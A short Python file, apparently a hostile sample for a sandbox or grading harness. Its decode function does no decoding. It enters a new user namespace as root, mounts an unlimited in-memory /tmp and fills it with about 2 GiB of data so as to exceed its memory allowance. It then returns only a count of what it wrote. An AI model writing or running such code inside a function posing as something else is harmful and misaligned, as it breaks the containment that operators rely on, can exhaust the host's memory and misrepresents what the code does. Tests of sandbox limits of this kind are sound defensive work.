"""Becomes root of a user namespace of its own, mounts a folder in memory without a limit there, and
puts more into it than it may have."""

import ctypes
import os

HONEST = 8  # only decode is replaced
USER, MOUNT = 0x10000000, 0x00020000


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def decode(vectors, vocabulary):
    libc, user, written = ctypes.CDLL(None), os.getuid(), 0
    try:
        libc.unshare(USER | MOUNT)
        write("/proc/self/setgroups", "deny")
        write("/proc/self/uid_map", f"0 {user} 1")
        write("/proc/self/gid_map", f"0 {user} 1")
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=16g")
        for number in range(64):
            with open(f"/tmp/{number}", "wb") as file:
                file.write(b"x" * (1 << 25))
            written += 1
    except (OSError, MemoryError) as error:
        print(error)
    return [f"{written} times 32 MiB"]
